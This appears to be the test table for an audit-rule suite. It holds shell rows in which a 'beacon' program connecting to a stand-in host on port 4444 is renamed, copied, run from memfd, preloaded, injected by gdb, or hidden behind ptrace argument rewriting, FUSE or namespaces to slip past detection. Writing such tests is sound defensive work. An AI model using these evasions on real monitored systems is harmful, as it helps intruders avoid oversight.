# SPDX-License-Identifier: GPL-2.0-or-later
# shellcheck shell=bash disable=SC2317
# The table of evasions.sh: what is tried.
#
#   row NAME KIND WHO LIMIT TEXT <<'EOF'   the script that does it
#
# KIND   attack  something linked here reaches outside, or takes part in it
#        benign  nothing linked here does, though it looks alike
# WHO    user, or root for what needs an administrator's hand; more: user, with
#        what the rules that are off need audited as well; last: user, after all
# LIMIT  words of audisp-eql-rules(7), ORIGINS, by which the manual says that it
#        is not found, or found though it is none; - where it promises better.
#
# beacon.c lies in the working directory; $TO, $TO6 and port 4444 answer.

### names

row renamed attack user - 'renamed to look like a kernel thread' <<'EOF'
gcc -o beacon beacon.c
mv beacon '[kworker'
'./[kworker'
EOF

row hard-link attack user - 'a hard link of it, the first name removed' <<'EOF'
gcc -o beacon beacon.c
ln beacon ls
rm beacon
./ls
EOF

row exchanged attack user - 'names exchanged with a system program by renameat2' <<'EOF'
need python3
gcc -o beacon beacon.c
cp /bin/true true
python3 -c 'import ctypes; print(ctypes.CDLL(None).syscall(316, -100, b"beacon", -100, b"true", 2))'
./true
EOF

row argv0 attack user - 'started with the name of another program' <<'EOF'
gcc -o beacon beacon.c
(exec -a /usr/bin/ssh ./beacon)
EOF

### copies

row cp attack user - 'cp to another name, the first removed' <<'EOF'
gcc -o beacon beacon.c
cp beacon sshd
rm beacon
./sshd
EOF

row cat attack user - 'cat to another name, then chmod' <<'EOF'
gcc -o beacon beacon.c
cat beacon >x
chmod +x x
./x
EOF

row cat-stdin attack user 'Copying by a program of one' 'cat with the program as its standard input' <<'EOF'
gcc -o beacon beacon.c
cat <beacon >x
chmod +x x
./x
EOF

row cat-late attack user 'Copying by a program of one' 'cat, and chmod 65 s later' <<'EOF'
gcc -o beacon beacon.c
cat beacon >x
rm beacon
sleep 65
chmod +x x
./x
EOF

row dd attack user - 'dd, then chmod' <<'EOF'
gcc -o beacon beacon.c
dd if=beacon of=x 2>/dev/null
chmod 700 x
./x
EOF

row tee attack user 'Copying by a program of one' 'tee' <<'EOF'
gcc -o beacon beacon.c
tee x <beacon >/dev/null
chmod +x x
./x
EOF

row base64 attack user - 'through base64 and back' <<'EOF'
gcc -o beacon beacon.c
base64 beacon >text
rm beacon
base64 -d text >x
chmod +x x
./x
EOF

row xxd attack user - 'through xxd and back' <<'EOF'
need xxd
gcc -o beacon beacon.c
xxd beacon text
xxd -r text x
chmod +x x
./x
EOF

row openssl attack user - 'encrypted and decrypted by openssl' <<'EOF'
need openssl
gcc -o beacon beacon.c
openssl enc -aes-256-cbc -k k -pbkdf2 -in beacon -out secret
rm beacon
openssl enc -d -aes-256-cbc -k k -pbkdf2 -in secret -out x
chmod +x x
./x
EOF

row tar-pipe attack user - 'tar to tar' <<'EOF'
gcc -o beacon beacon.c
mkdir d
tar c beacon | tar x -C d
rm beacon
d/beacon
EOF

row tar-file attack user - 'packed by tar, unpacked under another name' <<'EOF'
gcc -o beacon beacon.c
tar czf a.tgz beacon
rm beacon
tar xzf a.tgz --transform s/beacon/other/
./other
EOF

row cpio attack user 'Copying by a program of one' 'cpio -p' <<'EOF'
need cpio
gcc -o beacon beacon.c
mkdir d
echo beacon | cpio -pd d
d/beacon
EOF

row zip attack user - 'zip and unzip' <<'EOF'
need zip unzip
gcc -o beacon beacon.c
zip -q a.zip beacon
rm beacon
unzip -q a.zip -d d
d/beacon
EOF

row gzip attack user - 'gzip and gunzip' <<'EOF'
gcc -o beacon beacon.c
gzip beacon
gunzip beacon.gz
./beacon
EOF

row xz-stdin attack user 'Copying by a program of one' 'xz into a pipe and out of one' <<'EOF'
gcc -o beacon beacon.c
xz -c <beacon | xz -dc >x
chmod +x x
./x
EOF

row rsync attack user - 'rsync' <<'EOF'
need rsync
gcc -o beacon beacon.c
rsync beacon d/
d/beacon
EOF

row install attack user - 'install, to another file system' <<'EOF'
gcc -o beacon beacon.c
install -m 755 beacon "/dev/shm/$NAME"
"/dev/shm/$NAME"
rm "/dev/shm/$NAME"
EOF

row mv-across attack user - 'mv to another file system' <<'EOF'
gcc -o beacon beacon.c
mv beacon "/dev/shm/$NAME"
"/dev/shm/$NAME"
rm "/dev/shm/$NAME"
EOF

row split attack user - 'split into pieces and put together' <<'EOF'
gcc -o beacon beacon.c
split -b 4000 beacon part
rm beacon
cat part* >x
chmod +x x
./x
EOF

row head-tail attack user - 'put together by head and tail' <<'EOF'
gcc -o beacon beacon.c
{ head -c 1000 beacon; tail -c +1001 beacon; } >x
chmod +x x
./x
EOF

row python-copy attack user 'Copying by a program of one' 'shutil.copy of python' <<'EOF'
need python3
gcc -o beacon beacon.c
python3 -c 'import shutil; shutil.copy("beacon", "x")'
./x
EOF

row python-hidden attack user 'Copying by a program of one' 'copied by a python script whose arguments name neither file' <<'EOF'
need python3
gcc -o beacon beacon.c
printf 'import os\nopen("x", "wb").write(open("beacon", "rb").read())\nos.chmod("x", 0o755)\n' >s.py
python3 s.py
./x
EOF

row perl-hidden attack user 'Copying by a program of one' 'copied by perl, its script on standard input' <<'EOF'
need perl
gcc -o beacon beacon.c
perl <<'P'
open(I, "beacon"); open(O, ">x"); binmode I; binmode O; print O <I>; close O; chmod 0755, "x";
P
./x
EOF

row bash-only attack user 'Copying by a program of one' 'copied by builtins of the shell alone, then chmod' <<'EOF'
need xxd
gcc -Os -s -o beacon beacon.c
text=$(xxd -p beacon | tr -d '\n' | sed 's/../\\x&/g')
rm beacon
printf "$text" >x
chmod +x x
./x
EOF

row own-copier attack user - 'copied by a copier that is linked here as well' <<'EOF'
gcc -o beacon beacon.c
cat >c.c <<'C'
#include <stdio.h>
#include <sys/stat.h>
int main(void)
{
	FILE *in = fopen("beacon", "r"), *out = fopen("x", "w");
	int c;
	while ((c = getc(in)) != EOF)
		putc(c, out);
	fclose(out);
	return chmod("x", 0755);
}
C
gcc -o copier c.c
./copier
./x
EOF

row vim attack user 'Copying by a program of one' 'written anew by an editor' <<'EOF'
need vim
gcc -o beacon beacon.c
vim -u NONE -N -b -es -c 'w! x' -c q beacon
chmod +x x
./x
EOF

row sed-i attack user - 'changed in place by sed -i (a new file, ACL copied)' <<'EOF'
gcc -o beacon beacon.c
sed -i s/beacon/beaten/ beacon
./beacon
EOF

row perl-i attack user - 'changed in place by perl -i' <<'EOF'
need perl
gcc -o beacon beacon.c
perl -pi -e s/beacon/beaten/ beacon
./beacon
EOF

row objcopy attack user - 'objcopy to another name' <<'EOF'
gcc -o beacon beacon.c
objcopy beacon x
./x
EOF

row strip attack user - 'strip -o' <<'EOF'
gcc -o beacon beacon.c
strip -o x beacon
rm beacon
./x
EOF

row patchelf attack user - 'changed by patchelf' <<'EOF'
need patchelf
gcc -o beacon beacon.c
patchelf --set-rpath /nowhere --output x beacon
chmod +x x
./x
EOF

row ar attack user - 'kept in an archive, printed out of it' <<'EOF'
gcc -o beacon beacon.c
ar rc a.a beacon
rm beacon
ar p a.a beacon >x
chmod +x x
./x
EOF

row git attack user 'Copying by a program of one' 'through a git repository' <<'EOF'
need git
gcc -o beacon beacon.c
git init -q .
git add beacon
rm beacon
git checkout -q beacon
./beacon
EOF

row curl-file attack user 'Copying by a program of one' 'fetched by curl from file://' <<'EOF'
need curl
gcc -o beacon beacon.c
curl -s -o x "file://$PWD/beacon"
chmod +x x
./x
EOF

row own-server attack user 'Copying by a program of one' 'fetched by curl from a web server of its own on loopback' <<'EOF'
need curl python3
gcc -o beacon beacon.c
mkdir www
mv beacon www/
(cd www && exec python3 -m http.server --bind 127.0.0.1 8099 2>/dev/null) &
server=$!
sleep 1
curl -s -o x http://127.0.0.1:8099/beacon
kill $server
rm -r www
chmod +x x
./x
EOF

row busybox attack user - 'copied by busybox' <<'EOF'
need busybox
gcc -o beacon beacon.c
busybox cp beacon x
./x
EOF

row image attack root 'Copying by a program of one' 'put into a file system image by mke2fs -d, which is mounted' <<'EOF'
need mke2fs
as_user gcc -o beacon beacon.c
mkdir tree mnt
mv beacon tree/
truncate -s 4M image
mke2fs -q -d tree image
mount -o loop image mnt || exit 77
as_user mnt/beacon
umount mnt
EOF

row symlink-copy attack user - 'cp of a symbolic link to it' <<'EOF'
gcc -o beacon beacon.c
ln -s beacon s
cp s x
rm beacon
./x
EOF

row linked-directory attack user 'Copying by another name' 'cp by way of a symbolic link to its directory' <<'EOF'
gcc -o beacon beacon.c
ln -s . d
cp d/beacon x
./x
EOF

row bind-copy attack user 'Copying by another name' 'cp from a directory that is bind-mounted elsewhere' <<'EOF'
gcc -o beacon beacon.c
mkdir m
unshare -rm bash -c 'mount --bind . m && cp m/beacon x'
./x
EOF

row fd-copy attack user 'Copying by another name' 'cp of a descriptor of it, its name removed before' <<'EOF'
gcc -o beacon beacon.c
exec 7<beacon
rm beacon
cp /proc/self/fd/7 x
./x
EOF

row argv-rewritten attack user 'Rewriting arguments' 'cp under a tracer that has other arguments recorded' <<'EOF'
gcc -o beacon beacon.c
cat >t.c <<'C'
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>
/* "cp beacon x" is on the new stack when the call has not returned yet: what
   stands there then is recorded, and what stands there later is done. */
int main(void)
{
	pid_t child = fork();
	char path[64], stack[1 << 16], *at;
	unsigned long start = 0, end = 0;
	int status, fd;
	FILE *stat;

	if (!child) {
		ptrace(PTRACE_TRACEME, 0, 0, 0);
		raise(19);
		execl("/bin/cp", "cp", "beacon", "x", NULL);
	}
	waitpid(child, &status, 0);
	ptrace(PTRACE_SETOPTIONS, child, 0, PTRACE_O_TRACEEXEC);
	ptrace(PTRACE_CONT, child, 0, 0);
	waitpid(child, &status, 0);
	snprintf(path, sizeof(path), "/proc/%d/stat", child);
	stat = fopen(path, "r");
	for (int i = 1; i < 48; i++)
		fscanf(stat, "%*s");
	fscanf(stat, "%lu %lu", &start, &end);
	snprintf(path, sizeof(path), "/proc/%d/mem", child);
	fd = open(path, O_RDWR);
	if (pread(fd, stack, end - start, start) < 1)
		return 77;
	at = memmem(stack, end - start, "beacon", 6);
	pwrite(fd, "nobody", 6, start + (at - stack));
	ptrace(PTRACE_SYSCALL, child, 0, 0);
	waitpid(child, &status, 0);
	pwrite(fd, "beacon", 6, start + (at - stack));
	ptrace(PTRACE_DETACH, child, 0, 0);
	waitpid(child, &status, 0);
	return 0;
}
C
gcc -D_GNU_SOURCE -w -o t t.c
./t
./x
EOF

row proc-cwd attack user - 'cp by way of /proc/self/cwd' <<'EOF'
gcc -o beacon beacon.c
cp /proc/self/cwd/beacon x
./x
EOF

row proc-exe attack user - 'cp of /proc/PID/exe while it runs, its name removed before' <<'EOF'
gcc -o beacon beacon.c
./beacon stay &
sleep 0.5
rm beacon
cp /proc/$!/exe x
./x
EOF

row tar-C attack user - 'tar -C: packed by a name that is relative to another directory' <<'EOF'
mkdir d e
gcc -o d/beacon beacon.c
tar -C d -cf - beacon | tar -C e -xf -
rm -r d
e/beacon
EOF

row tar-dir attack user - 'tar of the directory it is in' <<'EOF'
mkdir d e
gcc -o d/beacon beacon.c
tar cf a.tar d
rm -r d
tar xf a.tar -C e
e/d/beacon
EOF

row zip-dir attack user - 'zip of the directory it is in' <<'EOF'
need zip unzip
mkdir d
gcc -o d/beacon beacon.c
zip -qr a.zip d
rm -r d
unzip -q a.zip
d/beacon
EOF

row dpkg-deb attack user 'Copying by a program of one' 'packed by dpkg-deb, unpacked by it' <<'EOF'
need dpkg-deb
mkdir -p p/DEBIAN
printf 'Package: evader\nVersion: 1\nArchitecture: all\nMaintainer: x <x@x>\nDescription: x\n' >p/DEBIAN/control
gcc -o p/beacon beacon.c
dpkg-deb -b p p.deb >/dev/null
rm -r p
dpkg-deb -x p.deb d
d/beacon
EOF

row subshell-cat attack user 'Copying by a program of one' 'cat by one shell, chmod by another' <<'EOF'
gcc -o beacon beacon.c
sh -c 'cat beacon; :' >x
sh -c 'chmod +x x; :'
./x
EOF

row substituted attack user - 'cat of what another cat gives (process substitution)' <<'EOF'
gcc -o beacon beacon.c
cat <(cat beacon) >x
chmod +x x
./x
EOF

row install-pipe attack user - 'install from a pipe that cat fills' <<'EOF'
gcc -o beacon beacon.c
cat beacon | install -m 755 /dev/stdin x
./x
EOF

row remounted attack root - 'linked in a mounted image, which is mounted as another device' <<'EOF'
need mke2fs losetup
truncate -s 8M image other
mkdir mnt
mke2fs -q image
mount -o loop image mnt || exit 77
chmod 777 mnt
as_user gcc -o mnt/beacon beacon.c
umount mnt
taken=$(losetup -f --show other)
mount -o loop image mnt
as_user mnt/beacon
umount mnt
losetup -d "$taken"
EOF

### what makes it executable

row umask attack user - 'linked without the permission, given by chmod' <<'EOF'
umask 0111
gcc -o beacon beacon.c
chmod 755 beacon
./beacon
EOF

row umask-hidden attack user - 'linked without the permission, given by python' <<'EOF'
need python3
umask 0111
gcc -o beacon beacon.c
echo 'import os; os.chmod("beacon", 0o755)' >s.py
python3 s.py
./beacon
EOF

row setfacl attack user - 'linked without the permission, given by an ACL' <<'EOF'
need setfacl
umask 0111
gcc -o beacon beacon.c
setfacl -m u::rwx beacon
./beacon
EOF

row setxattrat attack user - 'the same by setxattrat (Linux 6.13), which has its arguments in memory' <<'EOF'
umask 0111
cat >a.c <<'C'
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdint.h>
#include <unistd.h>
#include <sys/syscall.h>
int main(void)
{
	struct { uint32_t version; struct { uint16_t tag, perm; uint32_t id; } e[3]; } acl =
		{ 2, { { 1, 7, -1 }, { 4, 5, -1 }, { 32, 5, -1 } } };
	struct { uint64_t value; uint32_t size, flags; } args = { (uintptr_t)&acl, sizeof(acl), 0 };
	return syscall(463, AT_FDCWD, "beacon", 0, "system.posix_acl_access", &args, sizeof(args)) != 0;
}
C
gcc -o a a.c
chmod 755 a
gcc -o beacon beacon.c
./a || exit 77
./beacon
EOF

row chmod-dance attack user - 'permission taken away, renamed, given back, by chmod' <<'EOF'
gcc -o beacon beacon.c
chmod a-x beacon
mv beacon b
chmod a+x b
./b
EOF

row chmod-hidden attack user 'Taking the execute permission away' 'the same by a python script' <<'EOF'
need python3
gcc -o beacon beacon.c
printf 'import os\nos.chmod("beacon", 0o644)\nos.rename("beacon", "b")\nos.chmod("b", 0o755)\n' >s.py
python3 s.py
./b
EOF

row tmpfile attack user 'Copying by a program of one' 'O_TMPFILE, given a name by linkat' <<'EOF'
need python3
gcc -o beacon beacon.c
cat >s.py <<'P'
import ctypes, os
fd = os.open(".", os.O_TMPFILE | os.O_WRONLY, 0o755)
os.write(fd, open("beacon", "rb").read())
ctypes.CDLL(None).linkat(-100, b"/proc/self/fd/%d" % fd, -100, b"x", 0x400)
os.close(fd)
P
python3 s.py
./x
EOF

row mknod attack user 'Copying by a program of one' 'mknod with the permission, then written' <<'EOF'
need python3
gcc -o beacon beacon.c
cat >s.py <<'P'
import os, stat
os.mknod("x", stat.S_IFREG | 0o755)
open("x", "wb").write(open("beacon", "rb").read())
P
python3 s.py
./x
EOF

row over-cat attack user 'Writing over an executable file' 'cat over an executable copy of a system program' <<'EOF'
cp /bin/true x
gcc -o beacon beacon.c
cat beacon >x
./x
EOF

row over-cp attack user - 'cp over an executable copy of a system program' <<'EOF'
cp /bin/true x
gcc -o beacon beacon.c
cp beacon x
./x
EOF

row over-hidden attack user 'Writing over an executable file' 'the same by a python script' <<'EOF'
need python3
cp /bin/true x
gcc -o beacon beacon.c
echo 'open("x", "r+b").write(open("beacon", "rb").read())' >s.py
python3 s.py
./x
EOF

row over-linked attack user - 'linked over an existing executable' <<'EOF'
cp /bin/true x
gcc -o x beacon.c
./x
EOF

### linkers

row gold attack user - 'gcc -fuse-ld=gold' <<'EOF'
need ld.gold
gcc -fuse-ld=gold -o beacon beacon.c
./beacon
EOF

row lld attack user - 'clang -fuse-ld=lld' <<'EOF'
need ld.lld clang
clang -fuse-ld=lld -o beacon beacon.c
./beacon
EOF

row mold attack user - 'mold, with the output renamed' <<'EOF'
need mold
gcc -B"$(dirname "$(find /usr/libexec/mold /usr/local/libexec/mold -name ld 2>/dev/null | head -n 1)")" -o beacon beacon.c
mv beacon b
./b
EOF

row tcc attack user - 'tcc -o' <<'EOF'
need tcc
tcc -B"$(dirname "$(find /usr/lib /usr/local/lib -name libtcc1.a | head -n 1)")" -o beacon beacon.c -lpthread
./beacon
EOF

row tcc-run attack user - 'tcc -run' <<'EOF'
need tcc
tcc -B"$(dirname "$(find /usr/lib /usr/local/lib -name libtcc1.a | head -n 1)")" -lpthread -run beacon.c
EOF

row as-ld attack user - 'as and ld by hand, no compiler' <<'EOF'
gcc -S beacon.c
as -o beacon.o beacon.s
ld -o b -dynamic-linker "$(ldso)" "$(gcc -print-file-name=crt1.o)" "$(gcc -print-file-name=crti.o)" beacon.o -lc "$(gcc -print-file-name=crtn.o)"
./b
EOF

row ld-renamed attack user - 'a copy of ld under another name, by hand' <<'EOF'
cp "$(readlink -f /usr/bin/ld)" copier
gcc -c beacon.c
./copier -o b -dynamic-linker "$(ldso)" "$(gcc -print-file-name=crt1.o)" "$(gcc -print-file-name=crti.o)" beacon.o -L/usr/lib/x86_64-linux-gnu -lc "$(gcc -print-file-name=crtn.o)"
./b
EOF

row ld-response attack user - 'the same with all its arguments in a file' <<'EOF'
cp "$(readlink -f /usr/bin/ld)" copier
gcc -c beacon.c
echo "-o b -dynamic-linker $(ldso) $(gcc -print-file-name=crt1.o) $(gcc -print-file-name=crti.o) beacon.o -L/usr/lib/x86_64-linux-gnu -lc $(gcc -print-file-name=crtn.o)" >args
./copier @args
./b
EOF

row ld-by-ldso attack user - 'ld started by ld.so, its copy without the permission' <<'EOF'
cp "$(readlink -f /usr/bin/ld)" data
chmod -x data
gcc -c beacon.c
echo "-o b -dynamic-linker $(ldso) $(gcc -print-file-name=crt1.o) $(gcc -print-file-name=crti.o) beacon.o -L/usr/lib/x86_64-linux-gnu -lc $(gcc -print-file-name=crtn.o)" >args
"$(ldso)" ./data @args
./b
EOF

row own-toolchain attack user - 'a private ld behind gcc -B' <<'EOF'
mkdir t
cp "$(readlink -f /usr/bin/ld)" t/ld
gcc -B"$PWD/t/" -o beacon beacon.c
./beacon
EOF

row cxx attack user - 'g++ with link-time optimization and pipes, stripped in place' <<'EOF'
need g++
g++ -flto -pipe -x c++ -fpermissive -w -o beacon beacon.c
strip beacon
./beacon
EOF

row ccache attack user - 'the compiler behind ccache, object and all' <<'EOF'
need ccache
ccache gcc -c beacon.c
ccache gcc -o beacon beacon.o
./beacon
EOF

row libtool attack user - 'libtool, the program in .libs behind its wrapper' <<'EOF'
need libtool
printf 'int f(void) { return 0; }\n' >f.c
libtool --tag=CC --mode=compile gcc -c f.c
libtool --tag=CC --mode=link gcc -o libf.la f.lo -rpath /nowhere
libtool --tag=CC --mode=compile gcc -c beacon.c
libtool --tag=CC --mode=link gcc -o beacon beacon.lo libf.la
./beacon
EOF

row rustc attack user - 'rustc' <<'EOF'
[ -x /usr/bin/rustc ] || need rustc-of-the-system
cat >b.rs <<R
fn main() { println!("{:?}", std::net::TcpStream::connect("$TO:4444").is_ok()); }
R
/usr/bin/rustc -o b b.rs
./b
EOF

row cargo attack user - 'cargo run: the program started by what had it linked' <<'EOF'
[ -x /usr/bin/cargo ] && [ -x /usr/bin/rustc ] || need cargo-of-the-system
PATH=/usr/bin:/bin cargo init -q --vcs none --name b .
cat >src/main.rs <<R
fn main() { println!("{:?}", std::net::TcpStream::connect("$TO:4444").is_ok()); }
R
PATH=/usr/bin:/bin cargo run -q --offline
EOF

row go attack user - 'go build, cgo off: the linker of go' <<'EOF'
need go
cat >b.go <<G
package main
import "net"
func main() { net.Dial("tcp", "$TO:4444") }
G
CGO_ENABLED=0 GOCACHE="$PWD/cache" GO111MODULE=off go build -o b b.go
./b
EOF

row go-run attack user - 'go run: linked below a temporary directory, started by go' <<'EOF'
need go
cat >b.go <<G
package main
import "net"
func main() { net.Dial("tcp", "$TO:4444") }
G
CGO_ENABLED=0 GOCACHE="$PWD/cache" GO111MODULE=off go run b.go
EOF

row fortran attack user - 'gfortran with an object of C' <<'EOF'
need gfortran
sed 's/int main(/int c_main(/' beacon.c >c.c
gcc -c c.c
cat >m.f90 <<'F'
program m
  use iso_c_binding
  interface
    function c_main(n, v) bind(c, name="c_main")
      import
      integer(c_int), value :: n
      type(c_ptr) :: v(*)
      integer(c_int) :: c_main
    end function
  end interface
  type(c_ptr) :: v(2)
  integer(c_int) :: r
  v = c_null_ptr
  r = c_main(1_c_int, v)
end program
F
gfortran -o b m.f90 c.o
./b
EOF

row pascal attack user - 'fpc, which writes a script for ld' <<'EOF'
need fpc
cat >b.pas <<P
uses sockets;
var s: longint; a: TInetSockAddr;
begin
  s := fpSocket(AF_INET, SOCK_STREAM, 0);
  a.sin_family := AF_INET;
  a.sin_port := htons(4444);
  a.sin_addr := StrToNetAddr('$TO');
  fpConnect(s, @a, sizeof(a));
end.
P
fpc -ob b.pas
./b
EOF

row d attack user - 'ldc2' <<'EOF'
need ldc2
cat >b.d <<D
import std.socket;
void main() { auto s = new TcpSocket(new InternetAddress("$TO", 4444)); }
D
ldc2 -of=b b.d
./b
EOF

row nasm attack user - 'nasm and ld' <<'EOF'
need nasm
cat >b.asm <<N
global _start
_start: mov eax,41
mov edi,2
mov esi,1
xor edx,edx
syscall
mov edi,eax
lea rsi,[rel peer]
mov edx,16
mov eax,42
syscall
mov eax,60
xor edi,edi
syscall
peer: dw 2
db 0x11,0x5c
db ${TO//./,}
dq 0
N
nasm -f elf64 -o b.o b.asm
ld -o b b.o
./b
EOF

row musl attack user - 'musl-gcc, static' <<'EOF'
need musl-gcc
musl-gcc -static -w -idirafter /usr/include -idirafter /usr/include/x86_64-linux-gnu -o beacon beacon.c
./beacon
EOF

row strace-gcc attack user - 'the compiler under strace' <<'EOF'
need strace
strace -f -o /dev/null gcc -o beacon beacon.c
./beacon
EOF

row own-linker attack user 'Copying by a program of one' 'no linker: an ELF file that a python script writes around code of as' <<'EOF'
need python3
bare_code >s.s
as -o s.o s.s
objcopy -O binary -j .text s.o code
cat >elf.py <<'P'
import os, struct
code = open("code", "rb").read()
base = 0x400000
head = b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, base + 120, 64, 0, 0, 64, 56, 1, 0, 0, 0)
head += struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, 120 + len(code), 120 + len(code), 4096)
with open("x", "wb") as out:
    out.write(head + code)
os.chmod("x", 0o755)
P
python3 elf.py
./x
EOF

row make attack user - 'make, the program started by make' <<'EOF'
need make
printf 'run: beacon\n\t./beacon\n' >Makefile
make -s run
EOF

row cmake attack user - 'cmake and ninja' <<'EOF'
need cmake ninja
printf 'cmake_minimum_required(VERSION 3.10)\nproject(b C)\nadd_executable(beacon beacon.c)\ntarget_link_libraries(beacon pthread)\n' >CMakeLists.txt
cmake -G Ninja -B b . >/dev/null
ninja -C b >/dev/null
b/beacon
EOF

row memfd-output attack user 'A program that is no file' 'linked into a memfd that python holds, and run from it' <<'EOF'
need python3
cat >s.py <<'P'
import os, subprocess
fd = os.memfd_create("m", 0)
subprocess.call(["gcc", "-o", "out", "beacon.c"])
os.write(fd, open("out", "rb").read())
os.unlink("out")
os.execve(fd, ["m"], os.environ)
P
python3 s.py
EOF

row stdout-output attack user - 'linked to the standard output of gcc' <<'EOF'
gcc -o /dev/stdout beacon.c >x
chmod +x x
./x
EOF

row lli attack user - 'compiled to bitcode, run by lli' <<'EOF'
need clang lli
clang -emit-llvm -c -o b.bc beacon.c
lli b.bc
EOF

row gcc-plugin attack user 'A program that is no file' 'loaded by the compiler as a plugin' <<'EOF'
gcc -shared -fPIC -DLOADED -o lib.so beacon.c
echo 'int i;' >i.c
gcc -fplugin=./lib.so -c i.c 2>/dev/null
exit 0
EOF

### how it is run

row ldso attack user - 'started by ld.so' <<'EOF'
gcc -o beacon beacon.c
"$(ldso)" ./beacon
EOF

row ldso-copied attack user - 'started by a copy of ld.so, which itself ran a copied program before' <<'EOF'
gcc -o beacon beacon.c
cp /bin/true t
"$(ldso)" ./t
cp "$(ldso)" runner
./runner ./beacon
EOF

row ldso-noexec attack user - 'a copy without the permission, started by ld.so' <<'EOF'
gcc -o beacon beacon.c
cat beacon >data
rm beacon
"$(ldso)" ./data
EOF

row interpreter attack user - 'as the interpreter of a script' <<'EOF'
gcc -o beacon beacon.c
printf '#!%s tcp\n' "$PWD/beacon" >s
chmod +x s
./s
EOF

row elf-interp attack user - 'as the ELF interpreter of a copy of true' <<'EOF'
need patchelf
bare_code >s.s
gcc -nostdlib -static-pie -o beacon s.s
cp /bin/true t
patchelf --set-interpreter "$PWD/beacon" t
./t
EOF

row preload attack user 'A program that is no file' 'LD_PRELOAD into ls' <<'EOF'
gcc -shared -fPIC -DLOADED -o lib.so beacon.c
LD_PRELOAD=./lib.so ls >/dev/null
EOF

row ctypes attack user 'A program that is no file' 'loaded by python' <<'EOF'
need python3
gcc -shared -fPIC -DLOADED -o lib.so beacon.c
python3 -c 'import ctypes; ctypes.CDLL("./lib.so")'
EOF

row gdb-call attack user 'A program that is no file' 'loaded into a sleeping process by gdb' <<'EOF'
need gdb
gcc -shared -fPIC -DLOADED -o lib.so beacon.c
timeout 20 gdb -batch -ex 'break nanosleep' -ex 'run' -ex "call (void *)dlopen(\"$PWD/lib.so\", 2)" -ex kill --args sleep 5 >/dev/null 2>&1
EOF

row ldso-preload attack user - 'preloaded into true by an argument of ld.so' <<'EOF'
gcc -shared -fPIC -DLOADED -o lib.so beacon.c
"$(ldso)" --preload ./lib.so /bin/true
EOF

row bash-enable attack user 'A program that is no file' 'loaded by bash as a builtin' <<'EOF'
gcc -shared -fPIC -DLOADED -o lib.so beacon.c
enable -f ./lib.so nothing 2>/dev/null
exit 0
EOF

row binfmt attack user - 'as the interpreter of a format registered in a user namespace' <<'EOF'
need python3
gcc -o beacon beacon.c
echo MAGICbeacon >tcp
chmod +x tcp
unshare -rm bash -c 'mount -t binfmt_misc none /proc/sys/fs/binfmt_misc || exit 77
echo ":x:M::MAGIC::$PWD/beacon:" >/proc/sys/fs/binfmt_misc/register && python3 -c "import os; os.execv(\"tcp\", [\"tcp\"])"'
EOF

row fuse attack root 'A permission that no audited call gives' 'in a file system that python serves (FUSE)' <<'EOF'
need python3
as_user gcc -static -o beacon beacon.c
mkdir m
cat >f.py <<'P'
import ctypes, os, struct, sys, threading
data = open("beacon", "rb").read()
os.unlink("beacon")
fd = os.open("/dev/fuse", os.O_RDWR)
libc = ctypes.CDLL(None, use_errno=True)
if libc.mount(b"x", b"m", b"fuse", 6, b"fd=%d,rootmode=40000,user_id=0,group_id=0,allow_other" % fd):
    os._exit(77)
def attr(node):
    mode, size = (0o40755, 0) if node == 1 else (0o100755, len(data))
    return struct.pack("<QQQQQQIIIIIIIIII", node, size, 0, 0, 0, 0, 0, 0, 0, mode, 1, 0, 0, 0, 4096, 0)
def serve():
    while True:
        r = os.read(fd, 1 << 20)
        _, op, unique, node = struct.unpack_from("<IIQQ", r)
        body, error = b"", 0
        if op == 26:  # init
            body = struct.pack("<IIIIHHIIHHI", 7, 31, 65536, 0, 12, 10, 65536, 1, 0, 0, 0) + bytes(28)
        elif op == 1:  # lookup
            body = struct.pack("<QQQQII", 2, 0, 1, 1, 0, 0) + attr(2)
        elif op == 3:  # getattr
            body = struct.pack("<QII", 1, 0, 0) + attr(node)
        elif op == 14:  # open
            body = struct.pack("<QII", 0, 0, 0)
        elif op == 15:  # read
            offset, size = struct.unpack_from("<QI", r, 48)
            body = data[offset:offset + size]
        elif op in (2, 42):  # forget: no answer
            continue
        elif op not in (18, 25):
            error = -38
        os.write(fd, struct.pack("<IiQ", 16 + len(body), error, unique) + body)
threading.Thread(target=serve, daemon=True).start()
os.spawnvp(os.P_WAIT, "setpriv", ["setpriv", "--reuid=" + sys.argv[1], "--regid=" + sys.argv[1], "--clear-groups", "m/b"])
os._exit(0)
P
unshare -m python3 f.py 47110
EOF

row memfd-python attack user 'A program that is no file' 'copied to a memfd by python, its file named' <<'EOF'
need python3
gcc -o beacon beacon.c
python3 -c 'import os
fd = os.memfd_create("m", 0)
os.write(fd, open("beacon", "rb").read())
os.execve(fd, ["m"], os.environ)'
EOF

row memfd-hidden attack user 'A program that is no file' 'copied to a memfd by a perl script' <<'EOF'
need perl
gcc -o beacon beacon.c
cat >s.pl <<'P'
use IO::Handle;
my $name = "m";
my $fd = syscall(319, $name, 0);
open(my $out, ">&=", $fd); binmode $out;
open(my $in, "<", "beacon"); binmode $in;
local $/; $| = 1; print $out readline($in); $out->flush;
exec { "/proc/$$/fd/$fd" } "m";
P
perl s.pl
EOF

row proc-fd attack user - 'through /proc/self/fd of a deleted file' <<'EOF'
gcc -o beacon beacon.c
exec 7<beacon
rm beacon
/proc/self/fd/7
EOF

row chroot attack root - 'in a chroot' <<'EOF'
as_user gcc -static -o beacon beacon.c
mkdir -p r/bin
mv beacon r/bin/sh
chroot r /bin/sh
EOF

row user-namespace attack user - 'in a user, pid and mount namespace' <<'EOF'
gcc -o beacon beacon.c
unshare -rpfm --mount-proc ./beacon
EOF

row tmpfs attack user - 'in a tmpfs of its own mount namespace' <<'EOF'
gcc -o beacon beacon.c
mkdir t
unshare -rm bash -c 'mount -t tmpfs none t && cp beacon t/x && t/x'
EOF

row bind attack user - 'bind-mounted over a system program' <<'EOF'
gcc -o beacon beacon.c
unshare -rm bash -c 'mount --bind beacon /usr/bin/true && /usr/bin/true'
EOF

row overlay-lower attack user - 'seen through an overlay whose lower layer it is in' <<'EOF'
mkdir l u w m
gcc -o l/beacon beacon.c
unshare -rm bash -c 'mount -t overlay none -o lowerdir=l,upperdir=u,workdir=w m && m/beacon'
EOF

row overlay-out attack user - 'linked in an overlay, run from the upper layer outside' <<'EOF'
